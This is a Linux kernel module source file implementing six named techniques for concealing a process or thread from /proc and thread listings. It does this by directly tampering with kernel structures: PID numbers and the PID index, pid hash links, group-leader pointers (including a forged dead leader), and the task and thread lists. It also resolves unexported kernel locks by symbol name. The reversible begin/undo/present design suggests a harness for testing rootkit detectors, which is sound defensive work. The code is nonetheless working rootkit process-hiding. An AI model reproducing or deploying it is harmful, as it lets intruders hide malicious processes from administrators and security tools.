// SPDX-License-Identifier: GPL-2.0-only
/*
 * Conceals a task by members of structures that Linux keeps in their places:
 * nothing but the PID's slot in the index ever loses a task, and often not even
 * that.
 */
#include <linux/idr.h>
#include <linux/kernel.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/rculist.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/slab.h>
#include <linux/string.h>

#include "attacks.h"

/* Neither is exported. */
static rwlock_t *tasks_lock;
static spinlock_t *pids_lock;

struct target {
	struct task_struct *task;
	struct pid *pid;
};

static int find(struct target *target, const char *number)
{
	pid_t pid;

	if (kstrtoint(number, 10, &pid) || pid < 2)
		return -EINVAL;
	tasks_lock = (rwlock_t *)symbol("tasklist_lock");
	pids_lock = (spinlock_t *)symbol("pidmap_lock");
	if (!tasks_lock || !pids_lock)
		return -ENOENT;
	target->pid = find_get_pid(pid);
	target->task = get_pid_task(target->pid, PIDTYPE_PID);
	if (target->task)
		return 0;
	put_pid(target->pid);
	return -ESRCH;
}

static void forget(struct target *target)
{
	put_task_struct(target->task);
	put_pid(target->pid);
}

static void mark(struct attack *attack, const struct target *target)
{
	char about[sizeof(attack->about)];

	snprintf(about, sizeof(about), "%s (%d)", target->task->comm,
		 task_pid_nr(target->task));
	attack_mark(attack, about);
}

static void set_slot(struct pid *pid, struct pid *to)
{
	spin_lock(pids_lock);
	idr_replace(&init_pid_ns.idr, to, pid->numbers[0].nr);
	spin_unlock(pids_lock);
}

/*
 * forge-number: the pid structure shows the number of the next process. A
 * listing of /proc shows that number once, for the other process.
 */
static struct target renumbered;
static int number;

static int number_begin(struct attack *attack, char *argument)
{
	int error = find(&renumbered, argument);
	int next;

	if (error)
		return error;
	number = renumbered.pid->numbers[0].nr;
	rcu_read_lock();
	for (next = number + 1; next < number + 4096; next++) {
		struct pid *pid = find_pid_ns(next, &init_pid_ns);

		if (pid && pid_task(pid, PIDTYPE_TGID))
			break;
	}
	rcu_read_unlock();
	if (next == number + 4096) {
		forget(&renumbered);
		return -ENOENT;
	}
	WRITE_ONCE(renumbered.pid->numbers[0].nr, next);
	mark(attack, &renumbered);
	return 0;
}

static bool number_present(struct attack *attack)
{
	return renumbered.pid->numbers[0].nr != number;
}

static void number_undo(struct attack *attack)
{
	WRITE_ONCE(renumbered.pid->numbers[0].nr, number);
	forget(&renumbered);
}

struct attack forge_number = {
	.name = "forge-number",
	.begin = number_begin,
	.undo = number_undo,
	.present = number_present,
};

/*
 * share-pid PID OTHER: the task leaves its own PID, which leaves the index, and
 * is the second one at another process's. Linux looks at the first one only.
 */
static struct target guest, host;

static void move_behind(enum pid_type type)
{
	hlist_del_rcu(&guest.task->pid_links[type]);
	hlist_add_behind_rcu(&guest.task->pid_links[type], host.pid->tasks[type].first);
}

static int share_begin(struct attack *attack, char *argument)
{
	char *first = strsep(&argument, " ");
	int error = argument ? find(&guest, first) : -EINVAL;

	if (error)
		return error;
	error = find(&host, argument);
	if (error) {
		forget(&guest);
		return error;
	}
	write_lock_irq(tasks_lock);
	set_slot(guest.pid, NULL);
	move_behind(PIDTYPE_PID);
	move_behind(PIDTYPE_TGID);
	write_unlock_irq(tasks_lock);
	mark(attack, &guest);
	return 0;
}

static bool is_at(struct pid *pid, enum pid_type type)
{
	return pid->tasks[type].first == &guest.task->pid_links[type];
}

static bool share_present(struct attack *attack)
{
	return !is_at(guest.pid, PIDTYPE_PID);
}

static void move_back(enum pid_type type)
{
	if (is_at(guest.pid, type))
		return;
	hlist_del_rcu(&guest.task->pid_links[type]);
	hlist_add_head_rcu(&guest.task->pid_links[type], &guest.pid->tasks[type]);
}

static void share_undo(struct attack *attack)
{
	write_lock_irq(tasks_lock);
	move_back(PIDTYPE_PID);
	move_back(PIDTYPE_TGID);
	set_slot(guest.pid, guest.pid);
	write_unlock_irq(tasks_lock);
	forget(&guest);
	forget(&host);
}

struct attack share_pid = {
	.name = "share-pid",
	.begin = share_begin,
	.undo = share_undo,
	.present = share_present,
};

/* forge-pid TID: the thread has no pid structure. A listing of its process's threads leaves it out. */
static struct target pidless;

static int pidless_begin(struct attack *attack, char *argument)
{
	int error = find(&pidless, argument);

	if (error)
		return error;
	mark(attack, &pidless);
	WRITE_ONCE(pidless.task->thread_pid, NULL);
	return 0;
}

static bool pidless_present(struct attack *attack)
{
	return !pidless.task->thread_pid;
}

static void pidless_undo(struct attack *attack)
{
	WRITE_ONCE(pidless.task->thread_pid, pidless.pid);
	forget(&pidless);
}

struct attack forge_pid = {
	.name = "forge-pid",
	.begin = pidless_begin,
	.undo = pidless_undo,
	.present = pidless_present,
};

/* forge-leader PID: as hide-list-pid, and the task's leader is one of another process. */
static struct target stray;
static struct task_struct *own_leader;

static void self_link(enum pid_type type)
{
	struct hlist_node *node = &stray.task->pid_links[type];

	hlist_del_rcu(node);
	node->next = NULL;
	node->pprev = &node->next;
}

static int leader_begin(struct attack *attack, char *argument)
{
	int error = find(&stray, argument);

	if (error)
		return error;
	write_lock_irq(tasks_lock);
	own_leader = stray.task->group_leader;
	stray.task->group_leader = &init_task;
	set_slot(stray.pid, NULL);
	self_link(PIDTYPE_PID);
	self_link(PIDTYPE_TGID);
	list_del_rcu(&stray.task->tasks);
	write_unlock_irq(tasks_lock);
	synchronize_rcu();
	INIT_LIST_HEAD(&stray.task->tasks);
	mark(attack, &stray);
	return 0;
}

static bool leader_present(struct attack *attack)
{
	return stray.task->group_leader != own_leader;
}

static void put_at(struct target *target, enum pid_type type)
{
	if (target->pid->tasks[type].first != &target->task->pid_links[type])
		hlist_add_head_rcu(&target->task->pid_links[type], &target->pid->tasks[type]);
}

static void leader_undo(struct attack *attack)
{
	write_lock_irq(tasks_lock);
	stray.task->group_leader = own_leader;
	put_at(&stray, PIDTYPE_PID);
	put_at(&stray, PIDTYPE_TGID);
	set_slot(stray.pid, stray.pid);
	if (list_empty(&stray.task->tasks))
		list_add_tail_rcu(&stray.task->tasks, &init_task.tasks);
	write_unlock_irq(tasks_lock);
	forget(&stray);
}

struct attack forge_leader = {
	.name = "forge-leader",
	.begin = leader_begin,
	.undo = leader_undo,
	.present = leader_present,
};

/*
 * fake-leader PID: the task is a thread of a leader that is no task and claims
 * to be dead. Its PID has no process, so that /proc does not list it.
 */
static struct target threaded;
static struct task_struct *fake;

static int fake_begin(struct attack *attack, char *argument)
{
	int error = find(&threaded, argument);

	if (error)
		return error;
	fake = kzalloc(sizeof(*fake), GFP_KERNEL);
	if (!fake) {
		forget(&threaded);
		return -ENOMEM;
	}
	fake->group_leader = fake;
	fake->signal = threaded.task->signal;
	fake->pid = threaded.task->pid;
	fake->start_time = threaded.task->start_time;
	fake->exit_state = EXIT_DEAD;
	fake->__state = TASK_DEAD;
	write_lock_irq(tasks_lock);
	threaded.task->group_leader = fake;
	hlist_del_rcu(&threaded.task->pid_links[PIDTYPE_TGID]);
	write_unlock_irq(tasks_lock);
	mark(attack, &threaded);
	return 0;
}

static bool fake_present(struct attack *attack)
{
	return threaded.task->group_leader == fake;
}

static void fake_undo(struct attack *attack)
{
	write_lock_irq(tasks_lock);
	threaded.task->group_leader = threaded.task;
	put_at(&threaded, PIDTYPE_TGID);
	write_unlock_irq(tasks_lock);
	synchronize_rcu();
	kfree(fake);
	forget(&threaded);
}

struct attack fake_leader = {
	.name = "fake-leader",
	.begin = fake_begin,
	.undo = fake_undo,
	.present = fake_present,
};

/* hide-first PID: the first thread leaves its process's thread list, and forgets its neighbours. */
static struct target unthreaded;

static int first_begin(struct attack *attack, char *argument)
{
	struct list_head *entry;
	int error = find(&unthreaded, argument);

	if (error)
		return error;
	entry = &unthreaded.task->thread_node;
	write_lock_irq(tasks_lock);
	WRITE_ONCE(entry->prev->next, entry->next);
	entry->next->prev = entry->prev;
	INIT_LIST_HEAD(entry);
	write_unlock_irq(tasks_lock);
	mark(attack, &unthreaded);
	return 0;
}

static bool first_present(struct attack *attack)
{
	return list_empty(&unthreaded.task->thread_node);
}

static void first_undo(struct attack *attack)
{
	write_lock_irq(tasks_lock);
	if (list_empty(&unthreaded.task->thread_node) && unthreaded.task->sighand)
		list_add_rcu(&unthreaded.task->thread_node,
			     &unthreaded.task->signal->thread_head);
	write_unlock_irq(tasks_lock);
	forget(&unthreaded);
}

struct attack hide_first = {
	.name = "hide-first",
	.begin = first_begin,
	.undo = first_undo,
	.present = first_present,
};
